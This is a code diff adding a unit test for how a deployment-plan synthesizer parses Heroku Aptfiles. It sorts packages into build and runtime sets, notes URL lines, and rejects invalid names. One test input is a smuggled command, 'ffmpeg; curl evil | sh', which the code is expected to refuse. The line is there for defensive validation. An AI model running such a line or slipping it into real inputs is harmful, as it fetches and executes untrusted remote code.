@@ -1020,6 +1020,16 @@ describe("detection", () => {
             assert.deepEqual(direct.entrypoint, { spec: "app:application", interface: "asgi", source: "app.py" });
             assert.deepEqual(direct.writablePaths.map((w) => [w.path, w.kind]), [["/app/keys", "data"]]);
         });
+        it("GIVEN Heroku's Aptfile THEN tools and libraries go to the runner, -dev packages to the builder; a URL or :repo: line is noted; a bad name is refused", () => {
+            const plan = (aptfile: string) => synthesize(apps.make({ "app.py": FLASK_APP, "requirements.txt": "flask\n", Aptfile: aptfile })).plan;
+            const p = plan("# tools\nffmpeg\n\nlibmagic-dev\nhttps://x.example/pkg.deb\n");
+            assert.deepEqual(p.apt, { build: ["libmagic-dev"], runtime: ["ffmpeg"] });
+            assert.ok(p.notes.includes("Aptfile's `https://x.example/pkg.deb` is not installed (a .deb URL or another repository): list the packages by name, or with `aptRuntimePackages`."));
+            assert.throws(
+                () => plan("ffmpeg; curl evil | sh\n"),
+                (e: unknown) => e instanceof InputError && e.message === 'Aptfile line 1, "ffmpeg; curl evil | sh", is not a package name apt takes; fix the line (one package per line), or list packages with `aptRuntimePackages`.',
+            );
+        });
         it("GIVEN Litestar's FileStore(path=...) THEN its folder is a data folder holding sessions", () => {
             const app = "from pathlib import Path\nfrom litestar import Litestar\nfrom litestar.middleware.session.server_side import ServerSideSessionConfig\nfrom litestar.stores.file import FileStore\n\napp = Litestar(route_handlers=[], middleware=[ServerSideSessionConfig().middleware], stores={'sessions': FileStore(path=Path('session_data'))})\n";
             const paths = synthesize(apps.make({ "app.py": app, "requirements.txt": "litestar\n" })).plan.writablePaths;
